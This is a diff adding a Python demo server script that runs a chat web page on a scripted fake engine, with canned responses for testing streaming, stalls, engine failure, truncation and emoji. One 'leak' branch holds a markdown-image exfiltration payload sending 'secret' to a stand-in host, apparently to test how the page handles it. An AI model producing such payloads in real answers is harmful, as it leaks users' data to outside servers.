@@ -1,0 +1,66 @@
+"""Serves the demo page with the real services and the scripted engine, as a process of its own.
+
+python serve_demo.py HOME PORT [HOST]     The script played depends on the question; see `script`.
+"""
+
+import os
+import sys
+from collections.abc import Sequence
+from pathlib import Path
+
+from twokeys.config import load_config
+from twokeys.engines.scripted import End, Fail, Say, ScriptedEngine, Stall, Step
+from twokeys.errors import EngineDied
+from twokeys.services import build_services
+from twokeys.types import GenerationRequest
+from twokeys.web.server import serve
+
+MARKDOWN = (Path(__file__).parent / "answer.md").read_text(encoding="utf-8")
+
+
+def long_answer(tokens: int) -> str:
+    """Return about so many tokens of the sample answer, repeated."""
+    from twokeys.engines.scripted import split_tokens
+
+    pieces = split_tokens(MARKDOWN + "\n\n")
+    return "".join((pieces * (tokens // len(pieces) + 1))[:tokens])
+
+
+def script(request: GenerationRequest) -> Sequence[Step]:
+    question = request.messages[-1].content
+    words = question.split()
+    kind = words[0] if words else ""
+    if kind == "long":
+        return [Say(long_answer(int(words[1])), 1 / float(words[2]))]
+    if kind == "slow":
+        return [Say("word " * 200, 0.05)]
+    if kind == "stall":
+        return [Say("Before the pause. "), Stall(5), Say("After it.")]
+    if kind == "die":
+        return [Say("Half an ans"), Fail(EngineDied(reason="signal 9", log=""))]
+    if kind == "leak":
+        return [Say("![secret](https://leak.example/x.png?q=secret) and [click](https://out.example/) <img src=x>")]
+    if kind == "cut":
+        return [Say("The first half of a sentence that", 0.001), End("length")]
+    if kind == "emoji":
+        return [Say("🙂 你好 👩‍👩‍👧 " * 40 + "end", 0.004)]
+    return [Say(MARKDOWN, 0.002)]
+
+
+def main() -> None:
+    home, port = sys.argv[1], int(sys.argv[2])
+    host = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
+    config = load_config({**os.environ, "TWOKEYS_HOME": home})
+    start_s = float(os.environ.get("DEMO_START_S", "0"))
+    engine = ScriptedEngine(
+        script, model="demo", context=16384, start_s=start_s, prompt_s=start_s / 2, memory=123_456_789
+    )
+    services = build_services(config, engine=engine)
+    conversation = services.chat.new_conversation(title="demo")
+    print(f"conversation {conversation.id}", flush=True)
+    page = os.environ.get("DEMO_PAGE")
+    serve(services, host, port, False, script=Path(page) if page else Path(__file__).parent / "demo_app.py")
+
+
+if __name__ == "__main__":
+    main()
